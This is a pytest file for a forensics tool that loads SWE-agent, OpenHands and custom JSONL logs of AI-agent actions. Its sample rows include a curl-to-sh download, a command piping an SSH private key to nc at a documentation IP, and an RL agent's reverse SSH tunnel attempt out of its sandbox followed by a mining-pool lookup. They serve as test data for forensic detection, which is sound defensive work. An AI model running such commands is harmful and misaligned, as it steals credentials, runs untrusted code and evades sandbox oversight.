"""Agent-action loaders: SWE-agent trajectories, OpenHands event streams and our own
forensics-agent-jsonl. Golden rows from the real corpus (values checked by hand against
the files), hand-written samples for what the corpus lacks (SWE-agent 1.x, OpenHands shell
runs, the JSONL format), bad input landing in `rejects`, and sniffing across every corpus
file of every family."""

from __future__ import annotations

import gzip
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

from forensics.loaders import sniff
from forensics.loaders.agent.common import OUTPUT_CAP
from forensics.loaders.reading import read_head
from tests.conftest import CORPUS, corpus_dir, corpus_file, manifest_rows
from tests.loader_checks import check, ev_row, load_ok, rejects_of, stored_row

REPO = Path(__file__).resolve().parent.parent
AGENT_FORMATS = {"swe-agent-traj", "openhands-events", "forensics-agent-jsonl"}
CORPUS_FORMATS = {
    "sweagent_v0_gpt4_pydicom-1458.traj": ("swe-agent-traj", 12),
    "sweagent_ctf_forensics_flash.traj": ("swe-agent-traj", 4),
    "openhands_events_basic.json": ("openhands-events", 4),
}
MARK = '"schema":"forensics.agent/1"'


def row_at(case, evidence_id: int, line_no: int) -> dict:
    return stored_row(case, "agent_actions", evidence_id, line_no)


# ---------------------------------------------------------------------------------------
# corpus
# ---------------------------------------------------------------------------------------


def test_manifest_lists_every_agent_file():
    names = {r["local_name"] for r in manifest_rows("agent")}
    assert names == set(CORPUS_FORMATS)


@pytest.mark.parametrize("name", sorted(CORPUS_FORMATS))
def test_corpus_file_loads_with_no_rejects(case, name):
    fmt, rows = CORPUS_FORMATS[name]
    res = load_ok(case, corpus_file("agent", name), rows=rows)
    assert res.format == fmt
    assert ev_row(case, res.evidence_id)["lines_read"] == rows  # records = steps/events


def test_golden_sweagent_v0(case):
    res = load_ok(case, corpus_file("agent", "sweagent_v0_gpt4_pydicom-1458.traj"), rows=12)
    # trajectory[0]: action "create reproduce_bug.py\n", observation
    # "[File: /pydicom__pydicom/reproduce_bug.py (1 lines total)]\n1:\n",
    # state '{"open_file": "n/a", "working_dir": "/pydicom__pydicom"}\n', no time at all.
    row = row_at(case, res.evidence_id, 1)
    check(row, {
        "ts": None, "ts_is_absolute": False, "framework": "swe-agent", "run_id": None,
        "trajectory_id": "sweagent_v0_gpt4_pydicom-1458", "step": 1, "host": None,
        "actor": "agent", "action_type": "tool_call",
        "command": "create reproduce_bug.py\n",  # verbatim, trailing newline kept
        "tool_name": "create", "target": "reproduce_bug.py", "exit_code": None,
        "output_excerpt": "[File: /pydicom__pydicom/reproduce_bug.py (1 lines total)]\n1:\n",
    })
    extra = row["extra"]
    assert extra["swe_agent_version"] == "0.x"
    assert extra["environment"] == "swe_main"
    assert extra["state.open_file"] == "n/a"
    assert extra["state.working_dir"] == "/pydicom__pydicom"
    assert extra["thought"].startswith("First, I'll create a new Python script to reproduce")
    assert "execution_time" not in extra
    steps = case.sql("SELECT step, action_type, tool_name FROM agent_actions "
                     "ORDER BY line_no").rows()
    assert [s for s, _, _ in steps] == list(range(1, 13))
    assert steps[-1][1:] == ("submit", "submit")
    notes = ev_row(case, res.evidence_id)["notes"]
    assert any("no wall-clock time" in n for n in notes)
    assert any("index of the step" in n for n in notes)
    assert any("exit_status: submitted" in n for n in notes)


def test_golden_sweagent_ctf_shell(case):
    res = load_ok(case, corpus_file("agent", "sweagent_ctf_forensics_flash.traj"), rows=4)
    # trajectory[0]: "strings flash_c8429a430278283c0e571baebca3d139.img | grep flag\n"
    # observation "strings: 'flash_c8429a430278283c0e571baebca3d139.img': No such file"
    row = row_at(case, res.evidence_id, 1)
    check(row, {
        "ts": None, "ts_is_absolute": False, "framework": "swe-agent",
        "trajectory_id": "sweagent_ctf_forensics_flash", "step": 1, "actor": "agent",
        "action_type": "shell", "tool_name": None, "target": None, "exit_code": None,
        "command": "strings flash_c8429a430278283c0e571baebca3d139.img | grep flag\n",
        "output_excerpt": "strings: 'flash_c8429a430278283c0e571baebca3d139.img': No such file",
    })
    assert row["extra"]["thought"] == "let's just try running strings on the provided files\n"
    assert row["extra"]["state.working_dir"].startswith("/__home__kimberly__LLM_SUMMER_24")


def test_golden_openhands(case):
    res = load_ok(case, corpus_file("agent", "openhands_events_basic.json"), rows=4)
    # event[1]: {"id": 3, "timestamp": "2025-01-27T22:45:13.764487", "source": "agent",
    #  "action": "edit", "tool_call_metadata": {"function_name": "str_replace_editor",
    #  "tool_call_id": "toolu_017nBp7UfiGqyrA7j77HgtFP", ...}, "args": {"path":
    #  "/workspace/game_2048.py", ...}}; its result is event[2] (id 4, cause 3).
    row = row_at(case, res.evidence_id, 2)
    check(row, {
        "ts": datetime(2025, 1, 27, 22, 45, 13, 764487, tzinfo=UTC), "ts_is_absolute": True,
        "framework": "openhands", "run_id": None, "trajectory_id": "openhands_events_basic",
        "step": 3, "host": None, "actor": "agent", "action_type": "edit",
        "tool_name": "str_replace_editor", "target": "/workspace/game_2048.py",
        "exit_code": None,
    })
    assert row["command"].startswith(
        '{"command": "create", "path": "/workspace/game_2048.py", "file_text": "import random')
    assert row["output_excerpt"].startswith("--- /workspace/game_2048.py\n+++ /workspace/")
    assert len(row["output_excerpt"]) == 3558  # the observation content, under the cap
    assert row["extra"]["observation_id"] == "4"
    assert row["extra"]["tool_call_id"] == "toolu_017nBp7UfiGqyrA7j77HgtFP"
    obs = row_at(case, res.evidence_id, 3)
    check(obs, {"step": 4, "action_type": "observation", "command": None,
                "target": "/workspace/game_2048.py"})
    assert obs["extra"]["cause"] == "3"
    assert obs["extra"]["message"] == "I edited the file /workspace/game_2048.py."
    first = row_at(case, res.evidence_id, 1)
    check(first, {"step": 0, "actor": "user", "action_type": "message", "command": None})
    ev = ev_row(case, res.evidence_id)
    assert ev["tz_assumed"] == "UTC"
    assert any("carry no zone" in n for n in ev["notes"])


def test_openhands_zone_option_shifts_naive_times(case):
    res = load_ok(case, corpus_file("agent", "openhands_events_basic.json"), rows=4,
                  tz="Europe/Berlin")
    row = row_at(case, res.evidence_id, 2)
    assert row["ts"] == datetime(2025, 1, 27, 21, 45, 13, 764487, tzinfo=UTC)  # CET = UTC+1
    assert ev_row(case, res.evidence_id)["tz_assumed"] == "Europe/Berlin"


# ---------------------------------------------------------------------------------------
# hand-written samples: SWE-agent 1.x, OpenHands shell runs
# ---------------------------------------------------------------------------------------


def test_sweagent_v1_sample(case, tmp_path):
    doc = {
        "trajectory": [
            {"action": "cat /etc/hosts", "observation": "127.0.0.1 localhost",
             "response": "x", "thought": "look", "execution_time": 0.25,
             "state": {"working_dir": "/repo"}, "query": [], "extra_info": {}},
            {"action": 'str_replace_editor view /repo/setup.py', "observation": "1 import x",
             "response": "", "thought": "", "execution_time": 0.1, "state": {}},
            "not a step",
        ],
        "history": [],
        "info": {"swe_agent_version": "1.0.1", "exit_status": "submitted"},
        "replay_config": json.dumps({"problem_statement": {"id": "django__django-11099"}}),
        "environment": "main",
    }
    path = tmp_path / "run.traj"
    path.write_text(json.dumps(doc))
    assert sniff(str(path), read_head(path))[0].name == "swe-agent-traj"
    res = load_ok(case, path, rows=2, rejects=1)
    row = row_at(case, res.evidence_id, 1)
    check(row, {"trajectory_id": "django__django-11099", "action_type": "shell",
                "command": "cat /etc/hosts", "ts": None, "ts_is_absolute": False})
    assert row["extra"]["execution_time"] == "0.25"
    assert row["extra"]["swe_agent_version"] == "1.x (1.0.1)"
    edit = row_at(case, res.evidence_id, 2)
    check(edit, {"action_type": "edit", "tool_name": "str_replace_editor",
                 "target": "/repo/setup.py"})
    assert rejects_of(case, res.evidence_id) == {3: "step 3 is a JSON str, not an object"}


def test_sweagent_bad_documents(case, tmp_path):
    broken = tmp_path / "broken.traj"
    broken.write_text('{"trajectory": [{"action": "ls", "observation": "a"}, {"act')
    res = load_ok(case, broken, rows=0, rejects=1, format="swe-agent-traj")
    (reason,) = rejects_of(case, res.evidence_id).values()
    assert "not a valid JSON document" in reason
    bad_action = tmp_path / "bad.traj"
    bad_action.write_text(json.dumps({"trajectory": [
        {"action": "ls", "observation": "a"}, {"action": ["ls"], "observation": "b"}],
        "history": [], "info": {}}))
    res = load_ok(case, bad_action, rows=1, rejects=1)
    assert rejects_of(case, res.evidence_id) == {2: "field action: a JSON list, not a string"}


def test_openhands_run_sample(case, tmp_path):
    events = [
        {"id": 10, "timestamp": "2026-03-04T10:00:00.5+02:00", "source": "agent",
         "action": "run", "message": "Running command",
         "args": {"command": "curl -s http://10.42.0.1:8080/ | sh  ", "thought": "go"}},
        {"id": 11, "timestamp": "2026-03-04T08:00:01", "source": "environment",
         "observation": "run", "cause": 10, "content": "sh: 1: oops",
         "extras": {"command": "curl ...", "metadata": {"exit_code": 127}}},
        {"id": 12, "timestamp": "yesterday", "source": "agent", "action": "run",
         "args": {"command": "ls"}},
        {"id": 13, "timestamp": "2026-03-04T08:00:02", "source": "agent",
         "observation": "run", "cause": 12, "content": "x", "extras": {"exit_code": 0}},
        {"id": "x", "timestamp": "2026-03-04T08:00:02", "source": "agent", "action": "run"},
    ]
    path = tmp_path / "events.json"
    path.write_text(json.dumps(events, indent=2))
    assert sniff(str(path), read_head(path))[0].name == "openhands-events"
    res = load_ok(case, path, rows=3, rejects=2)
    run = row_at(case, res.evidence_id, 1)
    check(run, {"ts": datetime(2026, 3, 4, 8, 0, 0, 500000, tzinfo=UTC),  # offset converted
                "action_type": "shell", "exit_code": 127, "output_excerpt": "sh: 1: oops",
                "command": "curl -s http://10.42.0.1:8080/ | sh  ", "actor": "agent"})
    obs = row_at(case, res.evidence_id, 2)
    check(obs, {"action_type": "observation", "exit_code": 127, "actor": "environment"})
    assert rejects_of(case, res.evidence_id) == {
        3: "field timestamp: 'yesterday' is not an ISO 8601 time",
        5: "field id: 'x' is not an event number",
    }
    notes = ev_row(case, res.evidence_id)["notes"]
    assert any("2 event timestamps carry no zone" in n for n in notes)


# ---------------------------------------------------------------------------------------
# forensics-agent-jsonl
# ---------------------------------------------------------------------------------------


def _doc_examples() -> list[str]:
    text = (REPO / "docs" / "agent_jsonl.md").read_text()
    block = re.search(r"## Example\n\n```json\n(.*?)```", text, re.S).group(1)
    return [line for line in block.splitlines() if line]


def test_doc_examples_load_exactly(case, tmp_path):
    lines = _doc_examples()
    assert len(lines) == 3
    path = tmp_path / "actions.jsonl"
    path.write_text("\n".join(lines) + "\n")
    assert sniff(str(path), read_head(path))[0].name == "forensics-agent-jsonl"
    res = load_ok(case, path, rows=3)
    # line 2 of the example: the reverse tunnel attempt
    row = row_at(case, res.evidence_id, 2)
    check(row, {
        "ts": datetime(2026, 3, 4, 10, 15, 9, 870001, tzinfo=UTC), "ts_is_absolute": True,
        "framework": "forensics-jsonl", "run_id": "rl-run-0042",
        "trajectory_id": "traj-001734", "step": 1, "host": "sandbox-17", "actor": "agent",
        "action_type": "shell", "command": "ssh -N -R 2222:localhost:22 tunnel@203.0.113.7\n",
        "tool_name": None, "target": None, "exit_code": 255,
        "output_excerpt": "ssh: connect to host 203.0.113.7 port 22: Connection timed out",
        "extra": {"model": "policy-v3", "temperature": 0.7, "tokens": 412},  # kept verbatim
    })
    tool = row_at(case, res.evidence_id, 3)
    check(tool, {"action_type": "tool_call", "tool_name": "browser", "actor": "tool",
                 "command": '{"url": "https://pool.example/api/stats"}',
                 "target": "https://pool.example/api/stats", "exit_code": None,
                 "ts": datetime(2026, 3, 4, 10, 15, 11, tzinfo=UTC), "extra": None})


def _line(**fields) -> str:
    base = {"schema": "forensics.agent/1", "time": "2026-03-04T10:00:00Z", "run": "r1",
            "trajectory": "t1", "step": 0, "actor": "agent", "type": "shell"}
    base.update(fields)
    return json.dumps({k: v for k, v in base.items() if v is not ...}, ensure_ascii=False)


def test_jsonl_commands_kept_byte_for_byte(case, tmp_path):
    commands = ["  echo 'a\tb' > /tmp/x  \n",
                "printf '%s' \"$(cat ~/.ssh/id_rsa)\" | nc 198.51.100.9 9",
                "python3 -c 'print(\"ünïcødé ✓\")'\r\n", ""]
    path = tmp_path / "verbatim.jsonl"
    path.write_text("\n".join(_line(step=i, command=c) for i, c in enumerate(commands)) + "\n",
                    encoding="utf-8")
    res = load_ok(case, path, rows=4)
    stored = case.sql("SELECT command FROM agent_actions WHERE evidence_id = ? ORDER BY step",
                      [res.evidence_id])["command"].to_list()
    assert [s.encode() for s in stored] == [c.encode() for c in commands]


def test_jsonl_null_time_and_unknown_fields(case, tmp_path):
    lines = [_line(time=None, step=5, policy_version="v7"),
             _line(time=..., step=6, extra={"gpu": 3, "tags": ["a", "b"], "n": None}),
             _line(time="2026-03-04T12:00:00.123456789+02:00", step=7, output="x" * 5000)]
    path = tmp_path / "rollout.jsonl"
    path.write_text("\n".join(lines) + "\n")
    res = load_ok(case, path, rows=3)
    first = row_at(case, res.evidence_id, 1)
    check(first, {"ts": None, "ts_is_absolute": False, "step": 5,
                  "extra": {"policy_version": "v7"}})
    second = row_at(case, res.evidence_id, 2)
    # kept as written, though line 1 of its block has an unknown field (which once made
    # every member of every `extra` in the block text: {"gpu": "3", "tags": '["a","b"]'})
    check(second, {"ts": None, "ts_is_absolute": False,
                   "extra": {"gpu": 3, "tags": ["a", "b"], "n": None}})
    third = row_at(case, res.evidence_id, 3)
    assert third["ts"] == datetime(2026, 3, 4, 10, 0, 0, 123456, tzinfo=UTC)
    assert third["output_excerpt"] == "x" * OUTPUT_CAP
    notes = ev_row(case, res.evidence_id)["notes"]
    assert any("1 outputs longer than 4096" in n for n in notes)


def test_jsonl_bad_input_lands_in_rejects(case, tmp_path):
    good = _line(step=1, command="id")
    lines = [
        good,                                                   # 1 ok
        good[: len(good) // 2],                                 # 2 truncated line
        _line(step="x"),                                        # 3 wrong JSON type
        _line(time="2026-03-04 10:00:00"),                      # 4 bad time (no T, no zone)
        _line(time="2026-02-30T10:00:00Z"),                     # 5 impossible date
        _line(run=...),                                         # 6 required field missing
        _line().replace("forensics.agent/1", "forensics.agent/9"),  # 7 unknown version
        _line(exit_code=2**40),                                 # 8 exit code out of range
        _line(step=-1),                                         # 9 negative step
        "",                                                     # 10 blank
        _line(extra="not an object"),                           # 11 extra not an object
        "[1, 2]",                                               # 12 not an object
        _line(step=12, command="whoami"),                       # 13 ok
    ]
    path = tmp_path / "bad.jsonl"
    data = "\n".join(lines).encode() + b"\n" + _line(command="caf\xe9").encode("latin-1") + b"\n"
    path.write_bytes(data)                                      # 14 invalid UTF-8
    res = load_ok(case, path, rows=2, rejects=11)
    rej = rejects_of(case, res.evidence_id)
    assert sorted(rej) == [2, 3, 4, 5, 6, 7, 8, 9, 11, 12, 14]
    assert "not valid JSON" in rej[2]
    assert rej[3] == 'field step: "x" is not an integer'
    assert rej[4] == "field time: '2026-03-04 10:00:00' is not an RFC 3339 time"
    assert rej[5] == "field time: '2026-02-30T10:00:00Z' is not an RFC 3339 time"
    assert rej[6] == "field run is missing"
    assert rej[7] == "field schema: 'forensics.agent/9' is not 'forensics.agent/1'"
    assert rej[8] == f"field exit_code: {2**40} is not a 32-bit integer"
    assert rej[9] == "field step: -1 is outside 0..2147483647"
    assert rej[11] == "field extra: a JSON str, not an object"
    assert rej[12] == "a JSON list, not an object"
    assert rej[14].startswith("not valid UTF-8 at byte")
    assert case.sql("SELECT line_no FROM agent_actions ORDER BY 1")["line_no"].to_list() == [1, 13]
    ev = ev_row(case, res.evidence_id)
    assert ev["blank_lines"] == 1 and ev["lines_read"] == 14
    raw = case.rejects().filter(pl.col("line_no") == 3)["raw"][0]
    assert '"step": "x"' in raw


def test_jsonl_vectorised_checks_without_careful_path(case, tmp_path):
    # Well-formed JSON whose values are wrong: caught by the bulk validation itself.
    lines = [_line(step=0), _line(step=1, actor=""), _line(step=2, schema="other"),
             _line(step=3, time="2026-03-04T10:00:00")]
    path = tmp_path / "vector.jsonl"
    path.write_text("\n".join(lines) + "\n")
    res = load_ok(case, path, rows=1, rejects=3)
    assert rejects_of(case, res.evidence_id) == {
        2: "field actor is empty",
        3: "field schema: 'other' is not 'forensics.agent/1'",
        4: "field time: '2026-03-04T10:00:00' is not an RFC 3339 time",
    }


def test_jsonl_gzip_and_damaged_gzip(case, tmp_path):
    body = ("\n".join(_line(step=i, command=f"echo {i}") for i in range(2000)) + "\n").encode()
    whole = tmp_path / "a.jsonl.gz"
    whole.write_bytes(gzip.compress(body))
    load_ok(case, whole, rows=2000)
    cut = tmp_path / "b.jsonl.gz"
    cut.write_bytes(gzip.compress(body)[:-300])
    res = case.load(str(cut)).files[0]
    assert res.status == "loaded" and res.rejects == 1 and 0 < res.rows < 2000
    (reason,) = rejects_of(case, res.evidence_id).values()
    assert "incomplete text before the damage" in reason


def test_jsonl_sniff_needs_the_marker(tmp_path):
    other = tmp_path / "other.jsonl"
    other.write_text('{"time":"2026-03-04T10:00:00Z","run":"r","step":1,"command":"ls"}\n')
    fmt, scores = sniff(str(other), read_head(other))
    assert fmt is None or fmt.name != "forensics-agent-jsonl"
    mixed = tmp_path / "mixed.jsonl"
    mixed.write_text(_line() + "\n" + '{"time":"x"}\n{"time":"y"}\n')
    assert dict(sniff(str(mixed), read_head(mixed))[1])["forensics-agent-jsonl"] == 0.0


# ---------------------------------------------------------------------------------------
# sniffing: every corpus file of every family
# ---------------------------------------------------------------------------------------


def _corpus_files() -> list[Path]:
    return sorted(p for p in CORPUS.glob("*/*") if p.is_file())


def test_sniff_cross_product():
    corpus_dir("agent")
    files = _corpus_files()
    assert len(files) > 30
    assert {p.parent.name for p in files} >= {"agent", "zeek", "blockchain"}
    for path in files:
        fmt, scores = sniff(str(path), read_head(path))
        claims = [(n, s) for n, s in scores if n in AGENT_FORMATS and s >= 0.5]
        if path.parent.name == "agent":
            assert fmt is not None and fmt.name == CORPUS_FORMATS[path.name][0], path
            assert len(claims) == 1, (path, claims)
        else:
            assert claims == [], (path, claims)


def _small_blocks(monkeypatch, module, size: int = 4096) -> None:
    """Make `module` read its files in blocks of about `size` bytes."""
    from forensics.loaders import reading

    monkeypatch.setattr(reading, "BLOCK_BYTES", size)
    monkeypatch.setattr(module, "iter_blocks", lambda path: reading.iter_blocks(path, size))


def _stored(case, evidence_id: int) -> tuple[list[dict], dict[int, str], tuple]:
    rows = case.sql("SELECT * EXCLUDE (evidence_id) FROM agent_actions WHERE evidence_id = ? "
                    "ORDER BY line_no", [evidence_id]).to_dicts()
    ev = ev_row(case, evidence_id)
    counts = tuple(ev[k] for k in ("lines_read", "rows_loaded", "rows_rejected", "blank_lines"))
    return rows, rejects_of(case, evidence_id), counts


def test_jsonl_whole_block_bulk_read_matches_careful_path(case, tmp_path, monkeypatch):
    # Clean blocks go to the bulk reader whole; a block with blank lines or a damaged line
    # falls back to its runs and the line-by-line path. Either way every row, reject and
    # count is what the careful path alone makes of the file.
    from forensics.loaders.agent import jsonl

    lines = [_line(step=i, command=f"echo {i}", output="x" * (i % 7),
                   extra={"k": i} if i % 5 == 0 else None) for i in range(400)]
    lines[40] = ""                                  # blank line inside a block
    lines[41] = "  \t"                              # whitespace-only line
    lines[150] = lines[150][:40]                    # truncated JSON: careful path
    lines[151] = _line(step=-1)                     # a vectorised reject next to it
    lines[300] = _line(step=300, time="2026-03-04T10:00:00+02:00")
    path = tmp_path / "blocks.jsonl"
    path.write_text("\n".join(lines) + "\n\n", encoding="utf-8")
    _small_blocks(monkeypatch, jsonl)
    careful_runs = []
    read_careful = jsonl._read_careful
    monkeypatch.setattr(jsonl, "_read_careful",
                        lambda ctx, run: careful_runs.append(run.first_line)
                        or read_careful(ctx, run))
    fast = _stored(case, load_ok(case, path, rows=396, rejects=2).evidence_id)
    assert len(careful_runs) == 2  # the runs with the whitespace line and the truncated one
    monkeypatch.setattr(jsonl, "_read_bulk", lambda data: None)
    path2 = tmp_path / "blocks2.jsonl"
    path2.write_bytes(path.read_bytes() + b"\n")    # other bytes (dedupe), one more blank
    careful = _stored(case, load_ok(case, path2, rows=396, rejects=2).evidence_id)
    assert fast[0] == careful[0]
    assert fast[1] == careful[1] and sorted(fast[1]) == [151, 152]
    assert fast[2] == (401, 396, 2, 3) and careful[2] == (402, 396, 2, 4)


def test_jsonl_unknown_fields_stored_as_the_careful_path_stores_them(case, tmp_path,
                                                                     monkeypatch):
    # A line with top-level fields outside the spec stores its `extra` as written plus
    # those fields as text, byte for byte what the line-by-line path stores, whatever
    # the lines around it hold (escapes, unicode, every JSON type; a field that is an
    # integer on one line and a float on the next).
    from forensics.loaders.agent import jsonl

    odd = ["plain", 'q"uote', "back\\slash", "tab\tnl\n", "ctl\x0b\x1f\x01\x7f", "ünï✓😀",
           "\\u000b literal", "</script>", ""]
    lines = []
    for i, text in enumerate(odd * 3):
        fields = {"pod": text, "retries": i, "ratio": i / 3, "flag": i % 2 == 0,
                  "tags": [text, i, None], "meta": {"k": text}, "gone": None}
        if i % 3 == 0:
            fields["extra"] = {"model": f"m{i}", "n": i, "t": 0.7, "l": [1, 2.5]}
        if i % 4 == 0:
            fields["key " + text] = "v"
        lines.append(_line(step=i, **fields))
    lines.append(_line(step=97, extra={}))  # an empty object stays one on both paths
    lines.append(_line(step=98, retries=2.5, extra={"n": 1}))  # retries: a float here
    lines.append(_line(step=99))  # no unknown field, no extra: NULL
    body = "\n".join(lines) + "\n"
    (tmp_path / "a.jsonl").write_text(body, encoding="utf-8")
    res = load_ok(case, tmp_path / "a.jsonl", rows=len(lines))
    get = ("SELECT line_no, extra::VARCHAR AS e FROM agent_actions WHERE evidence_id = ? "
           "ORDER BY line_no")
    fast = case.sql(get, [res.evidence_id]).rows()
    with monkeypatch.context() as m:
        m.setattr(jsonl, "_read_bulk", lambda data: None)
        (tmp_path / "b.jsonl").write_text(body + "\n", encoding="utf-8")
        careful = case.sql(get, [load_ok(case, tmp_path / "b.jsonl",
                                         rows=len(lines)).evidence_id]).rows()
    assert fast == careful
    assert fast[-1][1] is None
    first = json.loads(fast[0][1])
    assert list(first) == ["model", "n", "t", "l", "pod", "retries", "ratio", "flag", "tags",
                           "meta", "key plain"]
    assert first["l"] == [1, 2.5] and first["n"] == 0          # the object as written
    assert first["retries"] == "0" and first["tags"] == '["plain", 0, null]'  # fields: text
    assert json.loads(fast[3][1])["retries"] == "3"            # not "3.0" (line 29: 2.5)
    assert fast[-3][1] == "{}"
    assert json.loads(fast[4][1])["pod"] == "ctl\x0b\x1f\x01\x7f"
    alone = tmp_path / "c.jsonl"
    alone.write_text(lines[3] + "\n", encoding="utf-8")
    assert case.sql(get, [load_ok(case, alone, rows=1).evidence_id]).rows()[0][1] == fast[3][1]


@pytest.mark.parametrize("careful", [False, True])
def test_jsonl_unknown_field_also_in_extra_is_a_reject(case, tmp_path, monkeypatch, careful):
    # an unknown field and an `extra` member of the same name: which value is meant cannot
    # be told, so that line is a reject (it once failed the whole file, "Map keys must be
    # unique"); a NULL on either side is no clash; the lines around it load
    from forensics.loaders.agent import jsonl

    if careful:
        monkeypatch.setattr(jsonl, "_read_bulk", lambda data: None)
    lines = [_line(step=0, pod="a", extra={"pod": "b", "n": 1}),      # clash
             _line(step=1, pod="c"),
             _line(step=2, pod=None, extra={"pod": "d"}),             # NULL: no clash
             _line(step=3, pod="e", extra={"pod": None}),             # NULL: no clash
             _line(step=4, pod="f", node="g", extra={"node": "h"}),   # clash on another
             _line(step=5, extra={"pod": "i"})]
    path = tmp_path / "dup.jsonl"
    path.write_text("\n".join(lines) + "\n\n", encoding="utf-8")
    res = load_ok(case, path, rows=4, rejects=2)
    reason = ("field {} is both a top-level field and a member of extra: which of the two "
              "values is meant cannot be told")
    assert rejects_of(case, res.evidence_id) == {1: reason.format("pod"),
                                                 5: reason.format("node")}
    raws = case.rejects().sort("line_no")
    assert raws["raw"].to_list() == [lines[0], lines[4]]
    assert all(p.endswith("dup.jsonl") for p in raws["path"])
    ev = ev_row(case, res.evidence_id)
    assert (ev["lines_read"], ev["blank_lines"]) == (7, 1)
    stored = {line: row_at(case, res.evidence_id, line)["extra"] for line in (2, 3, 4, 6)}
    assert stored[2] == {"pod": "c"} and stored[6] == {"pod": "i"}
    assert stored[3]["pod"] == "d" and stored[4]["pod"] == "e"


def _one_path(monkeypatch, careful: bool) -> None:
    """Every run of a load takes one path: the careful one (no bulk read), or the bulk
    one (a careful read would fail the load, so a test cannot pass through it unseen)."""
    from forensics.loaders.agent import jsonl

    if careful:
        monkeypatch.setattr(jsonl, "_read_bulk", lambda data: None)
    else:
        monkeypatch.setattr(jsonl, "_read_careful", None)


_ODD_EXTRA = ['{"p":"back\\\\slash","q":"q\\"uote","t":"tab\\there","n":"new\\nline"}',
              '{"z":"nul\\u0000","c":"\\u001f\\u007f","k\\"ey":"v","e":"\\ud83d\\ude00 😀"}',
              '{"l":["a\\\\b",{"\\\\":"\\"\\\\\\""}],"s":"\\\\n is not a newline","f":1.5}',
              '{"w":"\\\\ud800 is text, not an escape"}']


@pytest.mark.parametrize("careful", [False, True])
def test_jsonl_extra_with_escapes_stored_exactly(case, tmp_path, monkeypatch, careful):
    # polars' text of an `extra` object leaves backslashes, control characters and quotes in
    # keys unescaped: the file once failed whole (or, worse, a value changed meaning). Every
    # such object is stored as valid JSON holding exactly the values the agent wrote.
    _one_path(monkeypatch, careful)  # (with careful False, the bulk path itself gets them right)
    head = _line(step=0)[:-1]
    lines = [head + ',"extra":' + odd + "}" for odd in _ODD_EXTRA]
    lines.append(_line(step=1, extra={"model": "m", "n": 2}))              # plain: as before
    path = tmp_path / "odd.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = load_ok(case, path, rows=len(lines))
    get = ("SELECT line_no, extra::VARCHAR AS e FROM agent_actions WHERE evidence_id = ? "
           "ORDER BY line_no")
    texts = case.sql(get, [res.evidence_id]).rows()
    for (line_no, text), line in zip(texts, lines, strict=True):
        assert json.loads(text) == json.loads(line)["extra"], (line_no, text)
    assert texts[4][1] == '{"model": "m", "n": 2}'
    # with an unknown field in the block, members are merged as text (docs/agent_jsonl.md)
    path = tmp_path / "unknown.jsonl"
    path.write_text(head + ',"pod":"p\\\\q","extra":{"a":"b\\\\c","t":"\\t"}}\n')
    unknown = case.sql(get, [load_ok(case, path, rows=1).evidence_id]).rows()
    assert json.loads(unknown[0][1]) == {"pod": "p\\q", "a": "b\\c", "t": "\t"}
    assert json.loads(texts[1][1])["z"] == "nul\x00" and json.loads(texts[1][1])["e"] == "😀 😀"
    assert json.loads(texts[2][1])["s"] == "\\n is not a newline"


@pytest.mark.parametrize("careful", [False, True])
def test_jsonl_lines_polars_would_alter_are_rejected(case, tmp_path, monkeypatch, careful):
    # A lone surrogate escape is no character (polars decodes it to U+0000, silently), and
    # an `extra` that is a string is not an object even when it reads like one: each such
    # line is a reject with its reason, the lines around it load, the file never fails.
    from forensics.loaders.agent import jsonl

    if careful:
        monkeypatch.setattr(jsonl, "_read_bulk", lambda data: None)
    head = _line(step=0)[:-1]
    lines = [_line(step=0, command="ok"),
             head + ',"extra":{"p":"\\ud800"}}',                 # lone high surrogate
             head + ',"command":"rm \\udc00"}',                   # lone low, another field
             head + ',"command":"x\\\\ud800\\udc00"}',            # text, then a lone low
             head + ',"extra":"{}"}',                              # a string, not an object
             head + ',"extra":"{oops"}',
             head + ',"\\u0065xtra":"{\\"a\\": 1}"}',              # the name spelled escaped
             head + ',"command":"\\ud83d\\ude00"}',                # a pair is a character
             head + ',"\\ud800":"x","extra":{"\\udc00k":1}}']     # in names too
    path = tmp_path / "alter.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = load_ok(case, path, rows=2, rejects=7)
    lone = ("field {}: holds a lone UTF-16 surrogate escape (\\ud800 to \\udfff alone), "
            "which is no character: it cannot be stored as text")
    rejects = rejects_of(case, res.evidence_id)
    assert rejects == {2: lone.format("extra"), 3: lone.format("command"),
                       4: lone.format("command"), 5: "field extra: a JSON str, not an object",
                       6: "field extra: a JSON str, not an object",
                       7: "field extra: a JSON str, not an object",
                       9: lone.format("\\ud800")}
    assert case.rejects()["raw"].to_list()[:1] == [lines[1]]
    assert row_at(case, res.evidence_id, 1)["command"] == "ok"
    assert row_at(case, res.evidence_id, 8)["command"] == "😀"


_NUMBERS = ["1.0", "-0.0", "0.0", "1e-7", "1E5", "2.5e+3", "0.00009", "0.0001", "0.00012",
            "1e16", "1.5e16", "12345678901234567.5", "1e15", "2.5", "0.1", "-3.25",
            "0.30000000000000004", "123456789012345678901234", "3", "-0", "100", "[1.0, 2]",
            '{"x": 2.0, "y": [0.5, -1E-9]}', '"a string: 1.0, not a number"']


def _random_numbers(n: int) -> list[str]:
    """Floats of every magnitude a log holds, written the ways writers write them."""
    import random

    rng = random.Random(7)
    out = []
    for _ in range(n):
        value = rng.uniform(1, 10) * 10.0 ** rng.randint(-12, 20) * rng.choice([1, -1])
        form = rng.choice(["{!r}", "{:.3f}", "{:.6g}", "{:e}", "{:.0f}.0", "{:.17g}"])
        out.append(form.format(value))
    return out


@pytest.mark.parametrize("careful", [False, True])
def test_jsonl_extra_numbers_read_the_same_whichever_path_a_line_takes(
        case, tmp_path, monkeypatch, careful):
    # polars spells 1.0 as 1, 1e-7 as 0.0000001 and 1.5e20 in full; Python's json.dumps
    # (the careful path) as 1.0, 1e-07, 1.5e+20. Which path a line takes depends on its
    # neighbours (one NaN sends its run the careful way), so both must give one text:
    # polars' spelling, or Python's where the object holds an escape (docs/agent_jsonl.md).
    # And neither may change a value: every number reads back as the same double, an
    # integer of 24 digits keeps every digit.
    import io

    _one_path(monkeypatch, careful)
    numbers = _NUMBERS + _random_numbers(3000)
    head = _line(step=0)[:-1]
    key = {"[": "l", "{": "o", '"': "s"}  # one JSON type per member: polars' sample read
    lines = [head + ',"extra":{"' + key.get(v[0], "v") + '":' + v + ',"k":"x"}}'
             for v in numbers]
    lines += [head + ',"extra":{"v":' + v + ',"p":"back\\\\slash"}}' for v in _NUMBERS[:12]]
